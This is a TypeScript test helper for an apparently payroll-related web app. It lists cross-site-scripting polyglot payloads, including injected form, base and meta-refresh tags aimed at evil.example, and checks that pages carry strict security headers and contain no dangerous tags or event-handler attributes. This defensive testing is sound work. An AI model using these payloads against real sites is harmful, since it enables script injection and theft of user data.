import { expect } from 'vitest'
import type { Answer } from './browser.ts'

/** Texts that run as script wherever a page repeats one of them without escaping: in text, attributes, URLs, scripts, comments. */
export const polyglots: readonly string[] = [
  '"><script>alert(1)</script>', `'><img src=x onerror=alert(1)>`, '</title><svg/onload=alert(1)>', `" autofocus onfocus=alert(1) x="`, `' onmouseover='alert(1)`, 'javascript:alert(1)//', '--><script>alert(1)</script><!--',
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e`,
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', ']]><script>alert(1)</script>', '\u2028</script><script>alert(1)//', '%22%3E%3Cscript%3Ealert(1)%3C/script%3E', '<form action=//evil.example><button>', '<base href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">',
]

/** The page is one of ours, carries every protection, and nothing in it is anybody's script (SEC-13). */
export function expectInert(answer: Answer, seen: string, formActionOpen = true): void {
  const policy = String(answer.headers['content-security-policy'])
  for (const part of [`default-src 'none'`, `script-src 'self';`, `base-uri 'none'`, `frame-ancestors 'none'`, `require-trusted-types-for 'script'`]) expect(policy, seen).toContain(part)
  expect(policy, seen).not.toMatch(/unsafe|nonce|sha256|\*/)
  if (!formActionOpen) expect(policy, seen).toContain(`form-action 'self'`)
  expect(answer.headers, seen).toMatchObject({ 'x-frame-options': 'DENY', 'x-content-type-options': 'nosniff', 'cross-origin-opener-policy': 'same-origin', 'referrer-policy': 'same-origin', 'cache-control': 'no-store' })
  expect(answer.headers['content-type'], seen).toMatch(/^text\/html; charset=utf-8$/)
  for (const [tag] of answer.body.matchAll(/<[a-z!/][^>]*>/gi)) {
    expect(tag, seen).not.toMatch(/^<\/?(?:base|iframe|frame|frameset|object|embed|applet|style|math|template|portal|video|audio|source|marquee|keygen|isindex)\b/i)
    expect(tag, seen).not.toMatch(/\s(?:on\w+|style|srcdoc|formaction)\s*=/i)
    if (/^<script/i.test(tag)) expect(tag, seen).toMatch(/^<script type="module" src="\/assets\/[\w/.-]+">$/)
    if (/^<meta/i.test(tag)) expect(tag, seen).toMatch(/^<meta (?:charset|name)=/)
    const address = /\s(?:href|src|action)="([^"]*)"/i.exec(tag)?.[1]
    if (address !== undefined) expect(address, seen).toMatch(/^(?:\/(?!\/)|#|\?|https:\/\/payroll\.example\/)/)
  }
}
